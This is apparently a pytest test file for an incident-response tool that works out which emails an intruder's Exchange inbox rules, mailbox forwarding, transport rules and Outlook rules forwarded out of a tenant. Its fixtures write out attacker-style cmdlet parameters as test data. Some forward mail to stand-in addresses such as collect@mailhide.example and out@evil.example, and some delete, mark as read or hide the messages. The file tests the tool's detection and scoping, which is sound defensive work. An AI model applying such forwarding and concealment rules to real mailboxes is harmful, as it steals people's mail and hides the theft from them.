"""Mail that the intruder's rules and settings sent on, from their creation to their removal."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from scene import ALICE, BOB, HOME_IP, Scene

AWAY = "collect@mailhide.example"
ADMIN = {"client_ip": HOME_IP, "client": None}
DN = "CN=Bob Jones,OU=example.onmicrosoft.com,OU=Microsoft Exchange Hosted Organizations,DC=EURPR04A,DC=PROD"
PATH = "EURPR04A.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/example.onmicrosoft.com/bob"


@pytest.fixture
def lived(scene: Scene) -> Scene:
    scene.owner(range(60))
    for day in (5, 15, 25, 45):
        scene.letter(f"d{day}", day)
    scene.sign_in(9, session_id="session-one")
    scene.sign_in(50, session_id="session-one")
    return scene


def copied(scene: Scene, mailbox: str = ALICE) -> list[str]:
    rows = [row for row in scene.run().table("exposures") if row["mailbox"] == mailbox and row["message_id"]]
    return [row["internet_message_id"][1:-3] for row in rows if row["verdict"] == "copied"]


def doubtful(scene: Scene) -> list[str]:
    return [
        row["internet_message_id"][1:-3]
        for row in scene.table("exposures")
        if row["grounds"][0]["how"] == "no_item_log" and "sent on" in row["grounds"][0]["note"]
    ]


def rule(**more: Any) -> dict[str, Any]:
    return {"Name": ".", "ForwardTo": AWAY} | more


# -- how they are written ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "parameters",
    [
        rule(),
        f'-Name "." -ForwardTo "{AWAY}" -MarkAsRead "True"',
        {"Name": ".", "RedirectTo": f"smtp:{AWAY}", "StopProcessingRules": "True", "DeleteMessage": "True"},
        {"Name": ".", "ForwardAsAttachmentTo": f'"Collect" [SMTP:{AWAY}]', "MoveToFolder": "RSS Feeds"},
        {"Name": ".", "ForwardTo": [AWAY, "two@x.example"]},
        {"Name": ".", "ForwardTo": AWAY, "From": "", "HasAttachment": "False"},
    ],
)
def test_a_rule_takes_what_comes_while_it_stands(lived: Scene, parameters: Any) -> None:
    lived.letter("mine", 20, folder="Sent Items")
    made = lived.cmdlet(10, "New-InboxRule", parameters)
    lived.cmdlet(30, "Remove-InboxRule", {"Identity": "alice\\."}, **ADMIN)
    assert copied(lived) == ["d15", "d25"]
    assert lived.verdict("d15") == "copied: forwarded"
    assert lived.row("d15")["grounds"][0]["event_id"] == made
    assert AWAY in lived.row("d15")["grounds"][0]["note"]


def test_a_rule_that_nobody_removed_stands_to_this_day(lived: Scene) -> None:
    lived.letter("later", 300)
    lived.cmdlet(10, "New-InboxRule", rule())
    assert copied(lived) == ["d15", "d25", "d45", "later"]


def test_the_owners_own_forwarding_is_no_theft(lived: Scene) -> None:
    lived.cmdlet(2, "New-InboxRule", rule(), **ADMIN)
    lived.cmdlet(2, "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": AWAY}, **ADMIN)
    lived.cmdlet(11, "Set-InboxRule", {"Identity": "alice\\.", "Priority": "1"})
    lived.cmdlet(12, "Set-InboxRule", {"Identity": "alice\\.", "StopProcessingRules": "True"})
    assert copied(lived) == []


def test_a_failed_cmdlet_made_no_rule(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule(), outcome="failure")
    assert copied(lived) == []


@pytest.mark.parametrize(
    ("condition", "wanted"),
    [
        ({"SubjectContainsWords": "Invoice;PAYMENT"}, ["subject"]),
        ({"BodyContainsWords": "invoice, payment"}, ["body"]),
        ({"SubjectOrBodyContainsWords": ["invoice", "nothing"]}, ["body", "subject"]),
        ({"From": "Boss@Partner.example"}, ["boss"]),
        ({"From": '"The Boss" [SMTP:boss@partner.example];x@y.example'}, ["boss"]),
        ({"FromAddressContainsWords": "boss@"}, ["boss", "embossed"]),
        ({"SentTo": BOB}, ["to_bob"]),
        ({"RecipientAddressContainsWords": "bob@"}, ["to_bob"]),
        ({"From": "boss@partner.example", "SubjectContainsWords": "invoice"}, []),
        ({"SubjectContainsWords": "請求書"}, ["japanese"]),
    ],
)
def test_conditions_choose_the_letters(lived: Scene, condition: dict[str, Any], wanted: list[str]) -> None:
    lived.letter("subject", 20, subject="Your INVOICE", text="see there")
    lived.letter("body", 20, subject="hello", text="the invoice")
    lived.letter("boss", 20, from_address="boss@partner.example")
    lived.letter("embossed", 20, from_address="emboss@partner.example", to=[])
    if "FromAddressContainsWords" in condition:
        lived.messages[-1]["from_address"] = "x.boss@partner.example"
    lived.letter("to_bob", 20, to=[{"address": BOB, "name": None}])
    lived.letter("japanese", 20, subject="【至急】請求書の件")
    lived.cmdlet(10, "New-InboxRule", rule(**condition))
    assert sorted(copied(lived)) == wanted


@pytest.mark.parametrize("condition", [{"WithImportance": "High"}, {"From": "The Boss"}, {"HasAttachment": "True"}])
def test_what_a_letter_cannot_show_leaves_it_in_reach(lived: Scene, condition: dict[str, str]) -> None:
    lived.cmdlet(10, "New-InboxRule", rule(**condition))
    lived.cmdlet(30, "Remove-InboxRule", {"Identity": "."})
    assert copied(lived) == []
    assert doubtful(lived) == ["d15", "d25"]


def test_a_letter_without_a_date_may_have_been_sent_on(lived: Scene) -> None:
    lived.letter("undated", None)
    lived.cmdlet(10, "New-InboxRule", rule())
    lived.cmdlet(30, "Remove-InboxRule", {"Identity": "."})
    assert copied(lived) == ["d15", "d25"]
    assert doubtful(lived) == ["undated"]


def test_what_the_owner_wrote_was_not_sent_on_even_where_folders_are_not_known(lived: Scene) -> None:
    lived.letter("wrote", 20, folder="alice", from_address=ALICE, to=[{"address": BOB, "name": None}])
    lived.letter("to_self", 20, folder="alice", from_address=ALICE)
    lived.letter("draft", 20, folder="下書き")
    lived.cmdlet(10, "New-InboxRule", rule())
    assert copied(lived) == ["d15", "to_self", "d25", "d45"]


# -- how they change -----------------------------------------------------------------------------------------------


def test_a_harmless_rule_becomes_one_that_sends_mail_on_with_the_conditions_it_had(lived: Scene) -> None:
    lived.letter("hit", 20, subject="invoice")
    lived.cmdlet(8, "New-InboxRule", {"Name": "Old", "SubjectContainsWords": "invoice", "MarkAsRead": "True"}, **ADMIN)
    lived.cmdlet(10, "Set-InboxRule", {"Identity": "alice\\Old", "ForwardTo": AWAY})
    assert copied(lived) == ["hit"]


def test_a_change_of_conditions_counts_from_then_on(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule())
    lived.cmdlet(20, "Set-InboxRule", {"Identity": "alice\\.", "SubjectContainsWords": "nothing like it"})
    assert copied(lived) == ["d15"]


def test_a_rule_from_before_the_log_may_have_had_conditions(lived: Scene) -> None:
    lived.cmdlet(10, "Set-InboxRule", {"Identity": "alice\\Unknown", "ForwardTo": AWAY})
    lived.cmdlet(20, "Set-InboxRule", {"Identity": "alice\\Unknown", "ForwardTo": ""})
    assert copied(lived) == []
    assert doubtful(lived) == ["d15"]


def test_disabled_it_rests_and_enabled_it_takes_again(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule())
    lived.cmdlet(20, "Disable-InboxRule", {"Identity": "alice\\."}, **ADMIN)
    lived.cmdlet(40, "Enable-InboxRule", {"Identity": "alice\\."})
    assert copied(lived) == ["d15", "d45"]


def test_a_rule_made_disabled_takes_nothing(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule(Enabled="False"))
    assert copied(lived) == []


@pytest.mark.parametrize("identity", ["alice\\.", ".", "14873098273409823", "alice\\14873098273409823"])
def test_a_removal_names_the_rule_by_name_or_by_number(lived: Scene, identity: str) -> None:
    lived.cmdlet(10, "New-InboxRule", rule())
    lived.cmdlet(20, "Remove-InboxRule", {"Identity": identity}, **ADMIN)
    assert copied(lived) == ["d15"]


def test_a_number_that_may_be_either_of_two_rules_leaves_doubt_from_then_on(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule())
    lived.cmdlet(10, "New-InboxRule", {"Name": "two", "ForwardTo": AWAY})
    lived.cmdlet(20, "Remove-InboxRule", {"Identity": "14873098273409823"}, **ADMIN)
    assert copied(lived) == ["d15"]
    assert doubtful(lived) == ["d25", "d45"]


def test_removing_another_rule_changes_nothing(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule())
    lived.cmdlet(20, "Remove-InboxRule", {"Identity": "alice\\Other"}, **ADMIN)
    lived.cmdlet(20, "Remove-InboxRule", {"Identity": "bob\\."}, BOB, **ADMIN)
    lived.cmdlet(20, "Remove-InboxRule", {}, **ADMIN)
    assert copied(lived) == ["d15", "d25", "d45"]


def test_a_name_with_a_slash_in_it(lived: Scene) -> None:
    lived.cmdlet(10, "New-InboxRule", rule(Name="in/out"))
    lived.cmdlet(20, "Remove-InboxRule", {"Identity": "alice\\in/out"})
    assert copied(lived) == ["d15"]


# -- whose mailbox -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("identity", [BOB, "bob", "Bob Jones", DN, PATH, "BOB@EXAMPLE.ORG"])
def test_forwarding_of_a_mailbox_is_set_and_cleared_for_whoever_it_names(lived: Scene, identity: str) -> None:
    for day in (15, 25):
        lived.letter(f"b{day}", day, BOB)
    lived.letter("said", 1, from_address=BOB, from_name="Bob Jones")
    lived.cmdlet(10, "Set-Mailbox", {"Identity": identity, "ForwardingSmtpAddress": f"smtp:{AWAY}"})
    off = {"Identity": BOB, "ForwardingSmtpAddress": "$null", "DeliverToMailboxAndForward": "False"}
    lived.cmdlet(20, "Set-Mailbox", off, "admin@example.org", **ADMIN)
    assert copied(lived, BOB) == ["b15"]
    assert copied(lived) == []


def test_a_mailbox_that_no_name_leads_to_is_nobodys(lived: Scene) -> None:
    lived.cmdlet(10, "Set-Mailbox", {"Identity": "Somebody Else", "ForwardingSmtpAddress": AWAY})
    assert copied(lived) == []


def test_one_of_two_forwardings_cleared_leaves_the_other(lived: Scene) -> None:
    lived.cmdlet(10, "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": AWAY, "ForwardingAddress": "Thief"})
    lived.cmdlet(20, "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": ""})
    lived.cmdlet(30, "Set-Mailbox", {"Identity": ALICE, "ForwardingAddress": None})
    lived.cmdlet(30, "Set-Mailbox", {"Identity": ALICE, "ProhibitSendQuota": "99 GB"})
    assert copied(lived) == ["d15", "d25"]


def test_a_rule_in_anothers_mailbox(lived: Scene) -> None:
    lived.letter("b15", 15, BOB)
    lived.cmdlet(10, "New-InboxRule", rule(Mailbox="bob"), target="bob\\.")
    assert copied(lived, BOB) == ["b15"]
    assert copied(lived) == []


def test_a_transport_rule_takes_the_mail_of_all_and_what_they_send(lived: Scene) -> None:
    lived.letter("b15", 15, BOB)
    lived.letter("sent", 15, BOB, folder="Sent Items")
    lived.letter("draft", 15, BOB, folder="Drafts")
    lived.cmdlet(10, "New-TransportRule", {"Name": "Archive", "BlindCopyTo": AWAY, "Mode": "Enforce"})
    lived.cmdlet(20, "Disable-TransportRule", {"Identity": "Archive"}, "admin@example.org", **ADMIN)
    assert copied(lived, BOB) == ["b15", "sent"]
    assert copied(lived) == ["d15"]


def test_a_transport_rule_that_only_audits_takes_nothing(lived: Scene) -> None:
    lived.cmdlet(10, "New-TransportRule", {"Name": "Archive", "BlindCopyTo": AWAY, "Mode": "AuditAndNotify"})
    assert copied(lived) == []


# -- desktop Outlook -----------------------------------------------------------------------------------------------

ACTIONS = f'[{{"ActionType":"Forward","Recipients":["{AWAY}"],"ForwardFlags":"None"}}]'
ANY = "{(Exists(ItemClass))}"


def outlook(scene: Scene, day: float, operation: str, number: str = "-8271", **more: str) -> None:
    properties = {"RuleOperation": operation, "RuleId": number, "RuleState": "Enabled", "RuleName": "."}
    scene.outlook_rule(day, **{**properties, **more})


def test_a_rule_of_outlook_from_its_making_to_its_removal(lived: Scene) -> None:
    outlook(lived, 10, "AddMailboxRule", RuleActions=ACTIONS, RuleCondition=ANY)
    outlook(lived, 12, "ModifyMailboxRule", RuleName="", RuleState="")
    outlook(lived, 20, "RemoveMailboxRule", "-999")
    outlook(lived, 30, "RemoveMailboxRule", client_ip=HOME_IP)
    assert copied(lived) == ["d15", "d25"]


def test_a_rule_of_outlook_disabled_or_made_harmless(lived: Scene) -> None:
    outlook(lived, 10, "AddMailboxRule", RuleActions=ACTIONS, RuleCondition=ANY)
    outlook(lived, 20, "ModifyMailboxRule", RuleState="Disabled")
    outlook(lived, 40, "ModifyMailboxRule", RuleState="Enabled")
    assert copied(lived) == ["d15", "d45"]
    outlook(lived, 41, "ModifyMailboxRule", RuleActions='[{"ActionType":"MoveToFolder"}]')
    assert copied(lived) == ["d15"]


def test_a_rule_of_outlook_for_one_sender_or_one_word(lived: Scene) -> None:
    lived.letter("boss", 20, from_address="boss@partner.example")
    lived.letter("incident", 21, subject="New INCIDENT - 7")
    sender = "{(&((SenderSearchKey Equal SMTP:BOSS@PARTNER.EXAMPLE)))}"
    word = "{(SubString IgnoreCase(SubjectProperty)=Incident - )}"
    outlook(lived, 10, "AddMailboxRule", "-1", RuleActions=ACTIONS, RuleCondition=sender)
    outlook(lived, 10, "AddMailboxRule", "-2", RuleActions=ACTIONS, RuleCondition=word)
    assert copied(lived) == ["boss", "incident"]


def test_a_condition_of_outlook_that_no_letter_shows(lived: Scene) -> None:
    outlook(lived, 10, "AddMailboxRule", RuleActions=ACTIONS, RuleCondition="{(MessageToMe Equal True)}")
    assert copied(lived) == []
    assert doubtful(lived) == ["d15", "d25", "d45"]


def test_records_that_are_not_json_do_not_break_it(lived: Scene) -> None:
    lived.event(10, "New-InboxRule", raw="")
    lived.event(10, "UpdateInboxRules", raw="[1]")
    lived.event(10, "Set-Mailbox", raw='{"Parameters": "[{"}', user=None, mailbox=None)
    assert copied(lived) == []


def test_a_transport_rule_holds_for_its_own_tenant_alone(tmp_path: Path) -> None:
    """Mail of another organisation that lies in the evidence was never seen by the rule."""
    import json

    from unsealed import pipeline

    for box in ("alice@agency.example", "someone@elsewhere.example"):
        (tmp_path / "e" / box / "Inbox").mkdir(parents=True)
        (tmp_path / "e" / box / "Inbox" / "1.eml").write_text(
            f"From: x@partner.example\nTo: {box}\nSubject: password\nMessage-ID: <{box}.1>\nDate: Tue, 2 May 2023 10:00:00 +0000\n\nhi\n"
        )
    rule = {
        "CreationTime": "2023-05-01T10:00:00", "Id": "1", "Operation": "New-TransportRule", "RecordType": 1, "Workload": "Exchange",
        "UserId": "admin@agency.example", "ClientIP": "203.0.113.7:1234", "ResultStatus": "True",
        "Parameters": [{"Name": "Name", "Value": "."}, {"Name": "BlindCopyTo", "Value": "out@evil.example"},
                       {"Name": "SubjectOrBodyContainsWords", "Value": "password;invoice"}],
    }  # fmt: skip
    (tmp_path / "e" / "log.json").write_text(json.dumps([rule]))
    (tmp_path / "i.txt").write_text("203.0.113.7")
    told = pipeline.run(tmp_path / "case", [tmp_path / "e"], indicators=[tmp_path / "i.txt"], workers=0)
    assert {row["mailbox"]: row["copied"] for row in told["mailboxes"]} == {
        "alice@agency.example": 1,
        "someone@elsewhere.example": 0,
    }
